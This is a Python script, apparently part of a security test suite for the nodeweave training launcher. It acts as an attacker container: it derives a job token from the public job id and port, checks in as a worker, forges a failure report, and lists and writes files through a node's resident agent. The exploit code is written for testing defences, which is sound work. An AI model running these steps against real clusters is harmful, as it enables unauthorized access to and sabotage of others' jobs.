"""A foreign container on the job's network that knows the job's name: what it tries, as one program.

Run inside the attacker's container with nodeweave's source on PYTHONPATH
(the protocol is public code). It never holds the job's token: it computes
the token a node derives from the job id and the master port (what anyone
who can read the pod spec or compose file knows) and uses the real
check-in client of the entrypoint.

    attacker.py checkin JOB MASTER PORT   # (a) check in as node 1, then (b) forge node 1's failure
    attacker.py resident ADDR PORT DEST KEY  # (d) list DEST through a node's resident agent, (c) push a file
                                             # KEY "-": a guess (what the attacker has); else the real key

Prints one JSON line per step: {"step": ..., "ok": bool, ...}.
"""

import json
import sys
import time


def say(**fields):
    sys.stdout.write(json.dumps(fields, sort_keys=True) + "\n")
    sys.stdout.flush()


def checkin(job, master, port):
    from nodeweave.entrypoint import make_plan
    from nodeweave.entrypoint.checkin.exchange import check_in
    from nodeweave.entrypoint.checkin.fingerprint import local_fingerprint
    from nodeweave.entrypoint.detection.sysfs import Root
    from nodeweave.entrypoint.planning.settings import parse
    from nodeweave.entrypoint.checkin.wire import ExchangeError, job_token

    env = {"NODEWEAVE_JOB_ID": job}
    argv = ["--launcher", "torchrun", "--nnodes", "2", "--node-rank", "1", "--master-addr", master,
            "--master-port", str(port), "--", "train.py"]
    plan = make_plan(argv, env)
    fingerprint = local_fingerprint(plan, Root("/"), parse(argv, env))  # a real node's, fault settings and all
    token = job_token({}, job, port)  # derived: the job id and the master port, no secret
    try:
        verdict, channel = check_in(master, port + 1, fingerprint, token, time.monotonic() + 40)
    except ExchangeError as err:  # Refused is one
        say(step="checkin", ok=False, error=str(err))
        return 1
    say(step="checkin", ok=True, decision=verdict.get("decision"))
    if verdict.get("decision") != "start":
        return 0
    time.sleep(2)  # node 0 has launched its command; now report a failure that never happened
    channel.send({"t": "exit", "code": 1, "how": "exited 1 (forged by the nwsec attacker)",
                  "tail": ["nwsec: this failure is forged"]})
    say(step="forge", ok=True)
    time.sleep(3)
    return 0


def _session(addr, port, dest, key):
    """A connection to the resident that passed its ticket handshake, as the head's tunnel dials it."""
    import os
    import struct

    from nodeweave.sync.node.peer import connect
    from nodeweave.sync.node.resident import RESIDENT_MAGIC, make_ticket, new_nonce

    nonce = new_nonce()
    ticket = make_ticket(key if key != "-" else os.urandom(32).hex(), nonce, dest)
    header = json.dumps({"nonce": nonce, "dest": dest}).encode()
    return connect({"addrs": [addr], "port": port, "token": ticket},
                   RESIDENT_MAGIC + struct.pack(">I", len(header)) + header)


def _line(conn, obj):
    conn.sendall(json.dumps(obj).encode() + b"\n")


def resident(addr, port, dest, key):
    try:  # (d) read: every name under DEST (the --delete listing)
        conn = _session(addr, port, dest, key)
    except (OSError, ValueError) as err:
        say(step="read", ok=False, error=str(err))
    else:
        _line(conn, {"sigs": {}, "dirs": [], "extras": True})
        answer = json.loads(conn.makefile("rb").readline() or b"null")
        conn.close()
        say(step="read", ok=bool(answer), names=sorted(n for n, _ in (answer or {}).get("extras", [])))
    try:  # (c) push: a file of the attacker's into DEST
        conn = _session(addr, port, dest, key)
    except (OSError, ValueError) as err:
        say(step="push", ok=False, error=str(err))
        return 0
    import io
    import socket
    import tarfile

    reader = conn.makefile("rb")
    _line(conn, {"sigs": {"nwsec-pushed.txt": "0"}, "dirs": [], "then": "plan"})
    json.loads(reader.readline())
    _line(conn, {"receive": True})
    payload, body = io.BytesIO(), b"pushed by the nwsec attacker\n"
    with tarfile.open(fileobj=payload, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo("nwsec-pushed.txt")
        info.size, info.mode = len(body), 0o644
        tar.addfile(info, io.BytesIO(body))
    conn.sendall(payload.getvalue())
    conn.shutdown(socket.SHUT_WR)
    result = json.loads(reader.readline() or b"null")
    say(step="push", ok=bool(result) and result.get("files") == 1, result=result)
    return 0


if __name__ == "__main__":
    if sys.argv[1] == "resident":
        sys.exit(resident(sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]))
    action, job, master, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    sys.exit({"checkin": checkin}[action](job, master, port))
